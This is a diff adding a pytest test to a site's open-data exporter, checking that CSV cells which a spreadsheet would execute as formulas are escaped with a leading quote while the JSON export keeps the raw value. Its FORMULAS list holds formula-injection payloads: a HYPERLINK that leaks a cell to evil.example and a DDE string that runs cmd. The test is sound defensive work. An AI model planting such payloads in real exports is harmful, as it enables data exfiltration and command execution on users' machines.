@@ -95,3 +95,27 @@ def test_data_page_links_to_the_files_the_build_wrote(built, lang):
         assert f'href="{prefix}{name}"' in html, name
         # The downloads are the build's own output from the records, byte for byte.
         assert (site / "data" / name).read_bytes() == files[f"data/{name}"].encode("utf-8")
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Egypt")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\tx"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, formula):
+    actor = data_copy / "actors" / "egy.yml"
+    actor.write_text(actor.read_text(encoding="utf-8").replace('en: "Egypt"', f"en: {json.dumps(formula)}"), encoding="utf-8")
+    proposal = data_copy / "proposals" / "egypt-platform.yml"
+    proposal.write_text(proposal.read_text(encoding="utf-8").replace(
+        "  en: Institutional platform on the model of the Small Arms Programme of Action",
+        f"  en: {json.dumps(formula)}"), encoding="utf-8")
+    corpus = load_corpus(data_copy)
+    made = opendata.files(corpus, SITE_URL)
+    names = {r["actor_name"] for r in read_csv(made["data/rid-positions.csv"]) if r["actor_id"] == "egy"}
+    titles = {r["title"] for r in read_csv(made["data/rid-proposals.csv"]) if r["proposal_id"] == "egypt-platform"}
+    assert names == titles == {"'" + formula}
+    # No cell of either file starts with a formula sign; the JSON keeps the value as recorded.
+    for name in ("data/rid-positions.csv", "data/rid-proposals.csv"):
+        cells = [cell for row in read_csv(made[name]) for cell in row.values()]
+        assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
+    assert json.loads(made["data/rid-records.json"])["actors"][
+        [a["id"] for a in json.loads(made["data/rid-records.json"])["actors"]].index("egy")]["name"]["en"] == formula
